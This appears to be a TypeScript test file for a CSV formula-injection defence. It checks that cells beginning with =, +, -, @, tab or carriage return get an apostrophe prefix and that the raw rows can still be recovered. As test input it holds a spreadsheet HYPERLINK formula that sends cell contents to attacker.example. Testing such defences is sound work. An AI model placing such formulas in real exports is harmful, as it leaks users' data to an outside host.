// The CSV without formulas: every cell is text to a spreadsheet, and the apostrophe is all that was added.
import { assert, array, constantFrom, property, string, tuple } from 'fast-check';
import { expect, test } from 'vitest';
import { csvReader } from '#domain/rows/csv.ts';
import { COLUMNS, csvLine } from '#domain/rows/rows.ts';
import { neutralize, safeCsvLines } from '#domain/rows/safe-csv.ts';

test('a formula becomes text, and other texts stay', () => {
  const formula = '=HYPERLINK("http://attacker.example/?leak="&A1)';
  for (const text of [formula, '+1', '-1', '@SUM(A1)', '\t=1', '\r=1']) expect(neutralize(text)).toBe(`'${text}`);
  for (const text of ['', 'i-0abc', "'=1", 'a=b', '2026-11-23T01:00:00.000Z']) expect(neutralize(text)).toBe(text);
});

test('whatever the cells are, none begins as a formula, and removing the apostrophes gives the raw rows', () => {
  const cell = tuple(constantFrom('', '=', '+', '-', '@', '\t', '\r', '"', ','), string()).map((parts) =>
    parts.join(''),
  );
  const rows = array(array(cell, { minLength: COLUMNS.length, maxLength: COLUMNS.length }), { maxLength: 5 });
  assert(
    property(rows, (raw) => {
      const reader = csvReader();
      const safe = reader.read(csvLine(COLUMNS) + safeCsvLines(raw));
      reader.end();
      expect(safe.flat().filter((text) => /^[=+\-@\t\r]/.test(text))).toEqual([]);
      expect(
        safe.map((row, at) => row.map((text, column) => (text === raw[at]![column] ? text : text.slice(1)))),
      ).toEqual(raw);
    }),
  );
});
